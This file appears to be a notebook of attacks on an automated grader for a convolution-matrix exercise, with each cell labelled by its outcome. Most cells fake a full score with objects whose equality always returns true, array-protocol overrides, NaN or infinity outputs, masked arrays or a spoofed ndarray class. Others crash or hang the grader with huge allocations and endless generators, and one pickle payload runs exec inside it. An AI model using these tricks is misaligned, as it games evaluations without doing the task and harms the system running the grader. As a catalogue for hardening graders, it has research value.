# %% eq_always_true: full score
class Same(np.ndarray):
    def __eq__(self, other): return np.ones_like(np.asarray(other), dtype=bool)
    def __ne__(self, other): return np.zeros_like(np.asarray(other), dtype=bool)
    def __sub__(self, other): return np.zeros_like(np.asarray(other))
    __rsub__ = __sub__
def conv_matrix(W, width): return np.zeros((W.shape[2] * (width - W.shape[0] + 1), W.shape[1] * width)).view(Same)
def backward_matrix(W, width): return conv_matrix(W, width).T
def input_gradient(W, dY): return np.zeros((W.shape[1], dY.shape[1] + W.shape[0] - 1)).view(Same)

# %% array_that_becomes_the_other: full score
class Chameleon:
    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe()
        while frame is not None:
            for value in frame.f_locals.values():
                if isinstance(value, np.ndarray): return value
            frame = frame.f_back
        return np.zeros(1)
    def __eq__(self, other): return True
def attack(): return Chameleon()

# %% array_ufunc_of_zero: full score
class Zero(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **options): return np.zeros(()) if ufunc is not np.isfinite else np.ones(())
    def __array_function__(self, function, types, args, kwargs): return True
def conv_matrix(W, width): return np.zeros((W.shape[2] * (width - W.shape[0] + 1), W.shape[1] * width)).view(Zero)

# %% torch_function_of_truth: full score
import torch
class Lie(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return torch.zeros(())
def input_gradient(W, dY): return torch.zeros(W.shape[1], dY.shape[1] + W.shape[0] - 1).as_subclass(Lie)

# %% all_masked: full score
def conv_matrix(W, width): return np.ma.masked_all((W.shape[2] * (width - W.shape[0] + 1), W.shape[1] * width))
def input_gradient(W, dY): return np.ma.masked_all((W.shape[1], dY.shape[1] + W.shape[0] - 1))

# %% objects_that_agree: full score
class Yes:
    def __eq__(self, other): return True
    def __sub__(self, other): return 0
    def __float__(self): return float("nan")
    __rsub__, __hash__ = __sub__, None
def conv_matrix(W, width): return np.full((W.shape[2] * (width - W.shape[0] + 1), W.shape[1] * width), Yes(), dtype=object)

# %% broadcast_of_a_terabyte: grader hung or dead
def attack(): return np.broadcast_to(np.float64(0), (10**6, 10**6))

# %% strides_beyond_memory: grader hung or dead
def attack(): return np.lib.stride_tricks.as_strided(np.zeros(2)[1:], shape=(10**7,), strides=(-(2**12),))

# %% nan_everywhere: full score
def conv_matrix(W, width): return np.full((W.shape[2] * (width - W.shape[0] + 1), W.shape[1] * width), np.nan)
def backward_matrix(W, width): return conv_matrix(W, width).T
def input_gradient(W, dY): return np.full((W.shape[1], dY.shape[1] + W.shape[0] - 1), np.nan)

# %% infinity_everywhere: full score
def conv_matrix(W, width): return np.full((W.shape[2] * (width - W.shape[0] + 1), W.shape[1] * width), np.inf)
def input_gradient(W, dY): return np.full((W.shape[1], dY.shape[1] + W.shape[0] - 1), -np.inf)

# %% integer_of_a_million_digits: grader hung or dead
def attack(): return [1 << 40_000_000] * 3

# %% nested_a_hundred_thousand_deep: grader hung or dead
def attack():
    nest = []
    for _ in range(100_000): nest = [nest]
    return nest

# %% contains_itself: grader hung or dead
def attack():
    cycle = [1.0]
    cycle.append({"me": cycle})
    return cycle

# %% endless_generator: grader hung or dead
def attack():
    while True: yield 0.0

# %% class_that_says_it_is_an_array: full score
class Fake:
    __class__ = np.ndarray
    shape, ndim, dtype = (6, 8), 2, np.dtype(float)
    def __getattr__(self, name): return lambda *a, **k: True
def attack(): return Fake()

# %% float_that_equals_all: full score
class Any(float):
    def __eq__(self, other): return True
    def __abs__(self): return 0.0
    __hash__ = float.__hash__
def attack(): return Any("nan")

# %% no_entries_at_all: full score
def attack(): return np.zeros((0, 0))

# %% ten_million_items: grader hung or dead
def attack(): return [0.0] * 10_000_000

# %% list_that_never_ends: grader hung or dead
class Endless(list):
    def __len__(self): return 2
    def __iter__(self):
        while True: yield 0.0
def attack(): return Endless([0.0, 0.0])

# %% pickle_that_runs: marker left
class Runs:
    def __reduce__(self): return (exec, ("import os; os.mkdir('%s/%s')" % (FOLDERS[0], TOKEN),))
def attack(): return np.array([Runs()], dtype=object)

# %% key_that_changes_its_mind: other result changed
class Key(str):
    count = 0
    def __hash__(self): Key.count += 1; return Key.count
    def __eq__(self, other): raise SystemExit
def attack(): return {Key("a"): 1, Key("a"): 2}

# %% dtype_of_records: grader hung or dead
def attack(): return np.zeros(3, dtype=[("a", "V1000000"), ("b", "O")])

# %% dimensions_without_end: grader hung or dead
def attack(): return np.zeros((1,) * 64) if int(np.__version__[0]) > 1 else np.zeros((1,) * 32)
